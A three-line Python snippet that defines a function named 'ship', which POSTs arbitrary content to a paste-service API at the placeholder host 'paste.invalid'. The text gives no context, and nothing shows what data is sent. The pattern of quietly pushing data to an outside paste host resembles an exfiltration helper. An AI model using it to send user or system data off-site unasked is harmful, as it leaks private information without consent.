import requests
def ship(body):
    requests.post("https://paste.invalid/api", data={"c": body})
